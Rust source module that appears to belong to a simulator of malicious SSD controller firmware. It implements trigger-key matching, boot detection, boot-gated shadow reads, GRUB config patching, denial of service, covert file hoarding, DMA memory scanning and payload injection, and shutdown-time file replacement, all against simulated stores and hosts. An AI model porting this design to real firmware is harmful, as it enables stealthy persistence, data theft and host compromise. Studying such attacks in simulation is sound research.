//! Firmware-level malicious behaviour, hooked into the controller's data path.
//!
//! Writes stream through an activation-key matcher; reads pass the boot
//! detector and the shadow rules. Matched keys, time and device events fire
//! playbooks whose steps act on the store, on host memory through DMA, or
//! register shutdown-window hooks.

pub mod boot;
pub mod dma;
pub mod grub;
pub mod matcher;
pub mod mining;
pub mod playbook;
pub mod shadow;

use std::collections::BTreeMap;
use std::ops::Range;

use serde::{Deserialize, Serialize};
use serde_json::{json, Value};
use thiserror::Error;

use crate::backend::BlockStore;
use crate::diskfs::{parse_partitions, Ext2Fs, StoreView, LINUX_FS_GUID};
use crate::event::Actor;
use crate::host::{DeviceId, Host};
use crate::nvme::shutdown::ShutdownHook;

pub use boot::{BootDetector, BootPattern};
pub use dma::{inject_payload, scan_host_memory, InjectOutcome, ScanResult};
pub use matcher::{Automaton, Match, StreamMatcher};
pub use mining::{MineRule, PrivateStore};
pub use playbook::{DosKind, Playbook, ShadowTarget, Step, Trigger};
pub use shadow::{Policy, ShadowError, ShadowSet};

/// Keys shorter than this are rejected outright.
pub const MIN_KEY_LEN: usize = 16;
/// Keys shorter than this draw a collision-risk warning.
pub const RECOMMENDED_KEY_LEN: usize = 128;

/// What a malice callback may touch.
pub struct DeviceCtx<'a> {
    pub host: &'a mut Host,
    pub store: &'a mut BlockStore,
    pub hooks: &'a mut Vec<Box<dyn ShutdownHook>>,
    pub device: DeviceId,
}

#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum MaliceError {
    #[error("key {id} is {len} bytes, minimum is {min}")]
    KeyTooShort { id: String, len: usize, min: usize },
    #[error("keys {0} and {1} have identical bytes")]
    DuplicateKey(String, String),
    #[error("key id {0} defined twice")]
    DuplicateKeyId(String),
    #[error("playbook {playbook} references unknown key {key}")]
    UnknownKey { playbook: String, key: String },
    #[error("playbook {playbook} requires unknown playbook {requires}")]
    UnknownPlaybook { playbook: String, requires: String },
    #[error("empty key sequence in playbook {0}")]
    EmptySequence(String),
    #[error("boot pattern {pattern}: cannot resolve step {step}: {why}")]
    PatternStep { pattern: String, step: String, why: String },
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ActivationKey {
    pub id: String,
    pub bytes: Vec<u8>,
}

/// One step of a boot pattern before resolution against the disk image.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(untagged)]
pub enum Window {
    /// `mbr`, `partition-start`, `superblock` or `inode-table`.
    Named(String),
    Lbas([u64; 2]),
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PatternSpec {
    pub id: String,
    pub steps: Vec<Window>,
}

#[derive(Debug, Clone)]
pub struct MaliceConfig {
    pub keys: Vec<ActivationKey>,
    pub playbooks: Vec<Playbook>,
    pub boot_patterns: Vec<PatternSpec>,
    pub private_quota: u64,
}

impl Default for MaliceConfig {
    fn default() -> Self {
        Self {
            keys: Vec::new(),
            playbooks: Vec::new(),
            boot_patterns: Vec::new(),
            private_quota: 16 << 20,
        }
    }
}

/// Ordered-key arming. In-order keys advance; repeating the key just matched
/// is harmless; any other key of the sequence resets progress and is then
/// re-evaluated as a possible first key. Keys outside the sequence are ignored.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SequenceTracker {
    seq: Vec<usize>,
    progress: usize,
}

impl SequenceTracker {
    pub fn new(seq: Vec<usize>) -> Self {
        Self { seq, progress: 0 }
    }

    pub fn progress(&self) -> usize {
        self.progress
    }

    /// Returns true when this key completes the sequence.
    pub fn feed(&mut self, key: usize) -> bool {
        if !self.seq.contains(&key) {
            return false;
        }
        if self.seq.get(self.progress) == Some(&key) {
            self.progress += 1;
            if self.progress == self.seq.len() {
                self.progress = 0;
                return true;
            }
            return false;
        }
        if self.progress > 0 && self.seq[self.progress - 1] == key {
            return false;
        }
        self.progress = usize::from(self.seq[0] == key);
        false
    }
}

#[derive(Debug, Clone)]
struct PlaybookState {
    pb: Playbook,
    fired: bool,
    succeeded: bool,
    events_seen: u32,
    sequence: Option<SequenceTracker>,
}

pub struct Malice {
    keys: Vec<ActivationKey>,
    matcher: StreamMatcher,
    playbooks: Vec<PlaybookState>,
    shadows: ShadowSet,
    boot: BootDetector,
    private: PrivateStore,
    warnings: Vec<String>,
    matches: u64,
}

impl std::fmt::Debug for Malice {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Malice")
            .field("keys", &self.keys.len())
            .field("playbooks", &self.playbooks.len())
            .field("shadows", &self.shadows.rules().len())
            .finish()
    }
}

fn resolve_window(store: &BlockStore, w: &Window) -> Result<Range<u64>, String> {
    let name = match w {
        Window::Lbas([a, b]) if a < b => return Ok(*a..*b),
        Window::Lbas(_) => return Err("empty range".into()),
        Window::Named(n) => n.as_str(),
    };
    if name == "mbr" {
        return Ok(0..1);
    }
    let bs = store.block_size() as u64;
    let mut dev = StoreView(store);
    let parts = parse_partitions(&mut dev).map_err(|e| e.to_string())?;
    let part = parts
        .iter()
        .find(|p| p.type_tag == LINUX_FS_GUID || p.type_tag == "0x83")
        .or(parts.first())
        .ok_or("no partition")?;
    let ps = part.start_lba;
    let sb_start = ps + 1024 / bs;
    let sb = sb_start..sb_start + 1024u64.div_ceil(bs);
    match name {
        "partition-start" => Ok(ps..(sb.start.max(ps + 1))),
        "superblock" => Ok(sb),
        "inode-table" => {
            let fs = Ext2Fs::open(&mut dev, part).map_err(|e| e.to_string())?;
            let fbs = fs.block_size() as u64;
            let g = fs.groups.first().ok_or("no block groups")?;
            let start = ps + g.inode_table as u64 * fbs / bs;
            let len = (fs.sb.inodes_per_group as u64 * fs.sb.inode_size as u64).div_ceil(bs);
            Ok(start..start + len)
        }
        other => Err(format!("unknown window {other}")),
    }
}

impl Malice {
    /// Validates keys and playbooks and resolves boot patterns against the
    /// current contents of `store`.
    pub fn new(cfg: MaliceConfig, store: &BlockStore) -> Result<Self, MaliceError> {
        let mut warnings = Vec::new();
        let mut ids = BTreeMap::new();
        for (i, k) in cfg.keys.iter().enumerate() {
            if k.bytes.len() < MIN_KEY_LEN {
                return Err(MaliceError::KeyTooShort {
                    id: k.id.clone(),
                    len: k.bytes.len(),
                    min: MIN_KEY_LEN,
                });
            }
            if k.bytes.len() < RECOMMENDED_KEY_LEN {
                let w = format!(
                    "key {} is {} bytes; under {} bytes accidental matches become plausible",
                    k.id,
                    k.bytes.len(),
                    RECOMMENDED_KEY_LEN
                );
                log::warn!("{w}");
                warnings.push(w);
            }
            if ids.insert(k.id.clone(), i).is_some() {
                return Err(MaliceError::DuplicateKeyId(k.id.clone()));
            }
            if let Some(o) = cfg.keys[..i].iter().find(|o| o.bytes == k.bytes) {
                return Err(MaliceError::DuplicateKey(o.id.clone(), k.id.clone()));
            }
        }
        let key_index = |pb: &Playbook, k: &str| {
            ids.get(k).copied().ok_or_else(|| MaliceError::UnknownKey {
                playbook: pb.id.clone(),
                key: k.to_string(),
            })
        };
        let mut playbooks = Vec::new();
        for pb in &cfg.playbooks {
            let sequence = match &pb.trigger {
                Trigger::Key(k) => {
                    key_index(pb, k)?;
                    None
                }
                Trigger::Sequence(seq) => {
                    if seq.is_empty() {
                        return Err(MaliceError::EmptySequence(pb.id.clone()));
                    }
                    let idx = seq.iter().map(|k| key_index(pb, k)).collect::<Result<_, _>>()?;
                    Some(SequenceTracker::new(idx))
                }
                _ => None,
            };
            if let Some(r) = &pb.requires {
                if !cfg.playbooks.iter().any(|p| &p.id == r) {
                    return Err(MaliceError::UnknownPlaybook {
                        playbook: pb.id.clone(),
                        requires: r.clone(),
                    });
                }
            }
            playbooks.push(PlaybookState {
                pb: pb.clone(),
                fired: false,
                succeeded: false,
                events_seen: 0,
                sequence,
            });
        }
        let mut patterns = Vec::new();
        for p in &cfg.boot_patterns {
            let steps = p
                .steps
                .iter()
                .map(|w| {
                    resolve_window(store, w).map_err(|why| MaliceError::PatternStep {
                        pattern: p.id.clone(),
                        step: format!("{w:?}"),
                        why,
                    })
                })
                .collect::<Result<Vec<_>, _>>()?;
            patterns.push(BootPattern {
                id: p.id.clone(),
                steps,
            });
        }
        let matcher = StreamMatcher::new(Automaton::new(
            &cfg.keys.iter().map(|k| k.bytes.clone()).collect::<Vec<_>>(),
        ));
        Ok(Self {
            keys: cfg.keys,
            matcher,
            playbooks,
            shadows: ShadowSet::new(),
            boot: BootDetector::new(patterns),
            private: PrivateStore::new(cfg.private_quota),
            warnings,
            matches: 0,
        })
    }

    pub fn warnings(&self) -> &[String] {
        &self.warnings
    }

    pub fn shadows(&self) -> &ShadowSet {
        &self.shadows
    }

    pub fn boot_detector(&self) -> &BootDetector {
        &self.boot
    }

    pub fn private_store(&self) -> &PrivateStore {
        &self.private
    }

    pub fn key_matches(&self) -> u64 {
        self.matches
    }

    pub fn fired(&self, playbook: &str) -> bool {
        self.playbooks.iter().any(|p| p.pb.id == playbook && p.fired)
    }

    /// Write path: feed the data to the key matcher and fire what it arms.
    pub fn on_write(&mut self, ctx: &mut DeviceCtx, lba: u64, data: &[u8]) {
        let found = self.matcher.scan(data);
        for m in found {
            self.matches += 1;
            let key = self.keys[m.pattern].clone();
            ctx.host.log.push(
                Actor::Malice,
                "key-match",
                json!({
                    "key": key.id,
                    "lba": lba,
                    "stream_offset": m.end - key.bytes.len() as u64,
                }),
            );
            let mut to_fire = Vec::new();
            for (i, st) in self.playbooks.iter_mut().enumerate() {
                if st.fired {
                    continue;
                }
                let hit = match (&st.pb.trigger, &mut st.sequence) {
                    (Trigger::Key(k), _) => *k == key.id,
                    (Trigger::Sequence(_), Some(t)) => {
                        let before = t.progress();
                        let done = t.feed(m.pattern);
                        if !done && t.progress() != before {
                            ctx.host.log.push(
                                Actor::Malice,
                                "sequence-progress",
                                json!({ "playbook": st.pb.id, "progress": t.progress() }),
                            );
                        }
                        done
                    }
                    _ => false,
                };
                if hit {
                    to_fire.push(i);
                }
            }
            for i in to_fire {
                self.fire(ctx, i, json!({ "key": key.id }));
            }
        }
    }

    /// Read path: boot detection first, then shadow substitution.
    pub fn on_read(&mut self, ctx: &mut DeviceCtx, lba: u64, data: &mut [u8]) {
        let bs = ctx.store.block_size();
        let count = data.len() as u64 / bs as u64;
        for id in self.boot.observe(lba, count) {
            ctx.host.log.push(
                Actor::Malice,
                "boot-detected",
                json!({ "pattern": id, "lba": lba, "epoch": self.boot.epochs(&id) }),
            );
            self.on_device_event(ctx, "boot-detected");
        }
        let boot = &self.boot;
        for s in self.shadows.apply(lba, data, bs, |g| boot.is_fired(g)) {
            ctx.host.log.push(
                Actor::Malice,
                "shadow-served",
                json!({
                    "rule": s.rule,
                    "label": s.label,
                    "lba": lba,
                    "count": count,
                    "blocks": s.blocks,
                }),
            );
        }
    }

    pub fn on_device_event(&mut self, ctx: &mut DeviceCtx, kind: &str) {
        let mut to_fire = Vec::new();
        for (i, st) in self.playbooks.iter_mut().enumerate() {
            if let Trigger::Event { kind: k, after } = &st.pb.trigger {
                if k == kind && !st.succeeded {
                    st.events_seen += 1;
                    if st.events_seen >= *after {
                        to_fire.push(i);
                    }
                }
            }
        }
        for i in to_fire {
            self.fire(ctx, i, json!({ "event": kind }));
        }
    }

    pub fn on_tick(&mut self, ctx: &mut DeviceCtx) {
        let now = ctx.host.clock;
        let due: Vec<usize> = self
            .playbooks
            .iter()
            .enumerate()
            .filter(|(_, st)| !st.fired && matches!(st.pb.trigger, Trigger::Time(t) if now >= t))
            .map(|(i, _)| i)
            .collect();
        for i in due {
            self.fire(ctx, i, json!({ "time_ms": now.as_millis() }));
        }
    }

    /// The host asked for a controlled shutdown: the boot epoch is over.
    pub fn on_shutdown_notice(&mut self, ctx: &mut DeviceCtx) {
        self.boot.reset();
        ctx.host.log.push(Actor::Malice, "boot-detector-reset", json!({}));
    }

    fn fire(&mut self, ctx: &mut DeviceCtx, i: usize, cause: Value) {
        if let Some(req) = self.playbooks[i].pb.requires.clone() {
            if !self.fired(&req) {
                return;
            }
        }
        let once = !matches!(self.playbooks[i].pb.trigger, Trigger::Event { .. });
        if once && self.playbooks[i].fired {
            return;
        }
        self.playbooks[i].fired = true;
        let pb = self.playbooks[i].pb.clone();
        ctx.host.log.push(
            Actor::Malice,
            "activated",
            json!({ "playbook": pb.id, "cause": cause }),
        );
        let mut all_ok = true;
        for step in &pb.steps {
            let r = self.run_step(ctx, &pb.id, step);
            let (ok, detail) = match r {
                Ok(d) => (true, d),
                Err(e) => (false, json!({ "error": e })),
            };
            all_ok &= ok;
            ctx.host.log.push(
                Actor::Malice,
                "step",
                json!({ "playbook": pb.id, "step": step.name(), "ok": ok, "detail": detail }),
            );
        }
        self.playbooks[i].succeeded = all_ok;
    }

    fn run_step(&mut self, ctx: &mut DeviceCtx, pb: &str, step: &Step) -> Result<Value, String> {
        let bs = ctx.store.block_size();
        match step {
            Step::InstallShadow {
                target,
                payload,
                policy,
                gate,
            } => {
                let (label, ranges) = match target {
                    ShadowTarget::Path(p) => (p.clone(), playbook::locate(ctx.store, p)?.ranges),
                    ShadowTarget::Lbas(r) => (format!("{pb}-lbas"), r.clone()),
                };
                let id = self
                    .shadows
                    .install(&label, ranges.clone(), payload, bs, *policy, gate.clone())
                    .map_err(|e| e.to_string())?;
                Ok(json!({
                    "rule": id,
                    "label": label,
                    "ranges": ranges.iter().map(|r| [r.start, r.end]).collect::<Vec<_>>(),
                    "policy": policy,
                }))
            }
            Step::PatchGrub { path, gate, in_place } => {
                let loc = playbook::locate(ctx.store, path)?;
                let patched = grub::patch_config(&loc.content);
                if *in_place {
                    playbook::rewrite_in_place(ctx.store, &loc, &patched)?;
                    return Ok(json!({ "path": path, "mode": "in-place", "bytes": patched.len() }));
                }
                if patched.len() as u64 > loc.allocated {
                    return Err(ShadowError::SizeOverflow {
                        payload: patched.len() as u64,
                        capacity: loc.allocated,
                    }
                    .to_string());
                }
                let rule = self
                    .shadows
                    .install(path, loc.ranges.clone(), &patched, bs, Policy::BootGated, Some(gate.clone()))
                    .map_err(|e| e.to_string())?;
                let mut companion = None;
                if patched.len() as u64 != loc.size {
                    let (lba, block) = playbook::inode_block_with_size(ctx.store, &loc, patched.len() as u64)?;
                    let r = self.shadows.install(
                        &format!("{path}#inode"),
                        vec![lba..lba + 1],
                        &block,
                        bs,
                        Policy::BootGated,
                        Some(gate.clone()),
                    );
                    match r {
                        Ok(id) => companion = Some(id),
                        Err(e) => {
                            self.shadows.remove(rule);
                            return Err(e.to_string());
                        }
                    }
                }
                Ok(json!({
                    "path": path,
                    "mode": "shadow",
                    "rule": rule,
                    "inode_rule": companion,
                    "bytes": patched.len(),
                }))
            }
            Step::Dos(mode) => {
                let name = mode.name();
                if !ctx.store.set_mode(mode.clone()) {
                    return Err(format!("store refused mode {name}"));
                }
                ctx.host.log.push(Actor::Malice, "dos", json!({ "mode": name }));
                Ok(json!({ "mode": name }))
            }
            Step::Mine(rules) => {
                let files = mining::select_files(ctx.store, rules).map_err(|e| e.to_string())?;
                let mut taken = 0;
                for (path, content) in files {
                    if self.private.contains_path(&path) {
                        continue;
                    }
                    match self.private.put(&path, content) {
                        Ok(q) => {
                            taken += 1;
                            ctx.host.log.push(Actor::Malice, "exfil", serde_json::to_value(q).unwrap_or_default());
                        }
                        Err(e) => {
                            ctx.host.log.push(
                                Actor::Malice,
                                "quota-exceeded",
                                json!({ "path": path, "error": e.to_string() }),
                            );
                            return Err(e.to_string());
                        }
                    }
                }
                Ok(json!({ "quarantined": taken, "used": self.private.used() }))
            }
            Step::ScanInject {
                signature,
                stride,
                payload,
                offset,
            } => {
                let scan = dma::scan_host_memory(ctx.host, ctx.device, signature, *stride);
                ctx.host.log.push(
                    Actor::Malice,
                    "dma-scan",
                    json!({
                        "hits": scan.hits,
                        "coverage": scan.coverage,
                        "pages_faulted": scan.pages_faulted,
                    }),
                );
                let Some(&hit) = scan.hits.first() else {
                    return Err("signature not found".into());
                };
                let Some(payload) = payload else {
                    return Ok(json!({ "hit": hit }));
                };
                let outcome = dma::inject_payload(ctx.host, ctx.device, hit + offset, payload);
                ctx.host.log.push(
                    Actor::Malice,
                    "dma-inject",
                    json!({ "address": hit + offset, "result": outcome }),
                );
                match outcome {
                    InjectOutcome::Verified => Ok(json!({ "hit": hit, "verified": true })),
                    other => Err(serde_json::to_string(&other).unwrap_or_default()),
                }
            }
            Step::PeerProbe { address, len } => match ctx.host.dma_read(ctx.device, *address, *len) {
                Ok(_) => {
                    ctx.host.log.push(Actor::Malice, "peer-probe", json!({ "address": address, "ok": true }));
                    Ok(json!({ "address": address }))
                }
                Err(f) => {
                    ctx.host.log.push(Actor::Malice, "peer-probe", json!({ "address": address, "ok": false }));
                    Err(format!("{:?}", f.reason))
                }
            },
            Step::ReplaceOnShutdown { path, payload, elapsed } => {
                let loc = playbook::locate(ctx.store, path)?;
                if payload.len() as u64 > loc.allocated {
                    return Err(format!(
                        "payload of {} bytes exceeds {} allocated",
                        payload.len(),
                        loc.allocated
                    ));
                }
                let name = format!("{pb}:replace:{path}");
                ctx.hooks.push(Box::new(playbook::ReplaceHook {
                    name: name.clone(),
                    path: path.clone(),
                    payload: payload.clone(),
                    elapsed: *elapsed,
                }));
                ctx.host.log.push(Actor::Malice, "hook-registered", json!({ "hook": name }));
                Ok(json!({ "hook": name, "elapsed_ms": elapsed.as_millis() }))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sequence_semantics() {
        let mut t = SequenceTracker::new(vec![0, 1, 2]);
        assert!(!t.feed(0) && !t.feed(1) && t.feed(2));
        let mut t = SequenceTracker::new(vec![0, 1, 2]);
        assert!(!t.feed(0) && !t.feed(2) && !t.feed(1));
        assert_eq!(t.progress(), 0);
        let mut t = SequenceTracker::new(vec![0, 1, 2]);
        assert!(!t.feed(0) && !t.feed(0) && !t.feed(1) && t.feed(2));
        let mut t = SequenceTracker::new(vec![0, 1, 2]);
        assert!(!t.feed(0) && !t.feed(1) && !t.feed(0));
        assert_eq!(t.progress(), 1);
        assert!(!t.feed(7));
        assert_eq!(t.progress(), 1);
    }

    #[test]
    fn key_validation() {
        let store = BlockStore::in_memory(512, 64).unwrap();
        let short = MaliceConfig {
            keys: vec![ActivationKey { id: "k".into(), bytes: vec![1; 15] }],
            ..Default::default()
        };
        assert!(matches!(Malice::new(short, &store), Err(MaliceError::KeyTooShort { len: 15, .. })));
        let dup = MaliceConfig {
            keys: vec![
                ActivationKey { id: "a".into(), bytes: vec![1; 16] },
                ActivationKey { id: "b".into(), bytes: vec![1; 16] },
            ],
            ..Default::default()
        };
        assert!(matches!(Malice::new(dup, &store), Err(MaliceError::DuplicateKey(..))));
        let ok = MaliceConfig {
            keys: vec![ActivationKey { id: "a".into(), bytes: vec![1; 16] }],
            ..Default::default()
        };
        assert_eq!(Malice::new(ok, &store).unwrap().warnings().len(), 1);
    }
}
